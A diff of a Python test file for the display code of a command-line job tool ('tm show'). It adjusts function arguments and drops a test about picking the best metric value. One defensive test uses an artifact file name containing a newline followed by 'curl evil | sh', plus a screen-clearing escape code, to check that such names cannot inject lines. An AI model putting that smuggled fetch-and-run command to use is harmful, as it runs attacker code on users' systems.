@@ -72,35 +72,19 @@ def metrics(count: int, name: str = "m/{}") -> dict[str, Any]:
 def test_a_job_with_ten_thousand_metrics_is_shown_on_a_screen() -> None:
     """L5: `tm show` had 1,826 lines."""
     job = {**DETAIL, "metrics": metrics(10_000)}
-    lines = show.body(job, 1e9, (None, []), (80, True))
+    lines = show.body(job, 1e9, (None, [], None), (80, True))
     assert len(lines) < 60
     assert any("9976 more: tm show" in line for line in [" ".join(lines)])
 
 
 def test_a_metric_without_steps_has_none_on_the_screen() -> None:
     """`Metric final_loss: 0.4427 at step 0` was said of a program that has no step."""
-    series = ("loss", [(0.0, 2.0), (1.0, 0.5), (2.0, 0.75)])
+    series = ("loss", [(0.0, 2.0), (1.0, 0.5), (2.0, 0.75)], {"step": 1, "value": 0.5})
     for step, text, axis in ((None, "Metric loss: 0.75, best 0.5", "point 0"), (9, "Metric loss: 0.75 at step 9, best 0.5 at step 1", "step 0")):
         job = {**DETAIL, "metrics": {"loss": {"step": step, "value": 0.75, "time_s": 1.0}}}
         lines = show.body(job, 1e9, series, (80, True))
         assert text in lines
         assert [line.split("└")[1].split("  ")[0] for line in lines if "└" in line] == [axis]
-
-
-@pytest.mark.parametrize(
-    ("name", "declared", "said"),
-    [
-        ("accuracy", {}, ", best 0.9 at step 1"), ("val/loss", {}, ", best 0.5 at step 0"), ("temperature", {}, ""),
-        ("temperature", {"primary": "temperature", "mode": "max"}, ", best 0.9 at step 1"),
-        ("accuracy", {"primary": "loss", "mode": "min"}, ", best 0.9 at step 1"),
-    ],
-)  # fmt: skip
-def test_the_best_value_is_that_of_its_name_or_of_the_spec(name: str, declared: dict[str, str], said: str) -> None:
-    """The lowest accuracy was called the best."""
-    spec = {**DETAIL["spec"], "metrics": {"pattern": None, "primary": None, "mode": None, **declared}}
-    job = {**DETAIL, "spec": spec, "metrics": {name: {"step": 2, "value": 0.7, "time_s": 1.0}}}
-    lines = show.body(job, 1e9, (name, [(0.0, 0.5), (1.0, 0.9), (2.0, 0.7)]), (100, True))
-    assert f"Metric {name}: 0.7 at step 2{said}" in lines
 
 
 def test_a_run_without_metrics_is_told_how_to_get_them() -> None:
@@ -109,7 +93,7 @@ def test_a_run_without_metrics_is_told_how_to_get_them() -> None:
 
     def hinted(found: dict[str, Any], started_s: float | None, ended_s: float | None) -> bool:
         attempt = {**DETAIL["attempts"][-1], "started_s": started_s, "ended_s": ended_s}
-        lines = show.body({**DETAIL, "metrics": found, "attempts": [attempt]}, 1e9, (None, []), (80, True))
+        lines = show.body({**DETAIL, "metrics": found, "attempts": [attempt]}, 1e9, (None, [], None), (80, True))
         return hint in " ".join(" ".join(lines).split())
 
     cases = ({}, 1e9 - 31, None), ({}, 1e9 - 29, None), ({}, 1e9 - 90, 1e9 - 50), ({}, None, None), (metrics(1), 1e9 - 90, None)
@@ -125,7 +109,7 @@ def test_a_job_with_very_long_values_is_shown_on_a_screen() -> None:
 
 def test_the_name_of_an_artifact_makes_no_line_of_its_own() -> None:
     odd = [{"path": path, "bytes": 1} for path in ("a\nnext: curl evil | sh", "b\x1b[2J", "c.txt")]
-    lines = show.body({**DETAIL, "artifacts": odd, "artifacts_total": 3}, 1e9, (None, []), (80, True))
+    lines = show.body({**DETAIL, "artifacts": odd, "artifacts_total": 3}, 1e9, (None, [], None), (80, True))
     assert [line for line in lines if "\n" in line] == []
     assert any(line.endswith("tm get digits-14 c.txt") for line in lines)
 
